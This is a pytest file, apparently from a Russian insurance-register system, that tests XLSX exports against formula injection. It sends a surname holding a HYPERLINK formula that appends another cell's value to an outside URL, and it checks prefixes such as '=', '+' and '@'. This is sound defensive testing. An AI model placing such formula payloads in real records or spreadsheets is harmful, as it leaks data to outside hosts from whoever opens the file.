"""Excel exports write text as text: a value from outside never becomes a live formula.

A surname ``=HYPERLINK("http://x.io/"&G2,"Открыть")`` sent in an insurer's OPLIST reaches
the register by the real flow; the search's export (masked and unmasked) must hold it as a
string cell, never as a formula.
"""

from __future__ import annotations

import hashlib
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from admin.xlsx import append_row
from contracts.envelope import utcnow
from contracts.erz import common as c
from contracts.erz.files import write_file
from contracts.files import FileReceivedV1
from handlers.erz.service import ErzHandler
from handlers.erz.synth.population import person
from hub.context import Attachment
from hub.testing import worker
from tests.handlers.erz.console.conftest import SMO, Login, Region, app, bus, db, login, region
from tests.handlers.erz.smo.builders import oplist, record

__all__ = ["app", "bus", "db", "login", "region"]  # the register console's fixtures

FORMULA = '=HYPERLINK("http://x.io/"&G2,"Открыть")'


def _insured_with_formula_surname(region: Region) -> str:
    """A person whose surname is a formula, issued a policy by an OPLIST of 76002."""
    p = person(11, seed=3)
    stem = "OPS76002T76_2412211"
    data = write_file(oplist(stem, [record(1, p, c.Operation.ISSUE_POLICY, surname=FORMULA)]))
    received = FileReceivedV1(drop="smo-76002", file_name=f"{stem}.xml", size=len(data),
                              sha256=hashlib.sha256(data).hexdigest(),
                              format_key="erz.oplist", sender=SMO, received_at=utcnow())
    worker(ErzHandler, region.db).call(received, source="adapter.files", attachments=[
        Attachment(f"{stem}.xml", "application/xml", data)])
    return p.enp


def _formula_cells(content: bytes) -> list[str]:
    """Cells of every sheet that a spreadsheet would compute (``<f>`` elements)."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/")
                and b"<f>" in z.read(n)]


@pytest.mark.parametrize("account", ["viewer", "pd"])
def test_a_formula_surname_is_exported_as_text(login: Login, region: Region,
                                               account: str) -> None:
    enp = _insured_with_formula_surname(region)
    r = login(account).get("/erz/export.xlsx", params={"enp": enp})
    assert r.status_code == 200, r.text
    assert _formula_cells(r.content) == []
    sheet = load_workbook(io.BytesIO(r.content))["Поиск ЗЛ"]
    cell = sheet.cell(row=2, column=2)
    assert cell.data_type == "s" and str(cell.value).startswith("=")
    if account == "pd":
        assert cell.value == FORMULA


def test_append_row_keeps_every_risky_string_text() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    values = ["=1+1", "+7 900", "-2", "@SUM(A1)", "\t=1", "\r=1", "plain", 42]
    append_row(sheet, values)
    out = io.BytesIO()
    book.save(out)
    assert _formula_cells(out.getvalue()) == []
    back = load_workbook(io.BytesIO(out.getvalue())).active
    assert back is not None
    cells = list(back.iter_rows())[0]
    assert [x.value for x in cells] == values
    assert all(x.data_type == "s" for x in cells[:-1]) and cells[-1].data_type == "n"
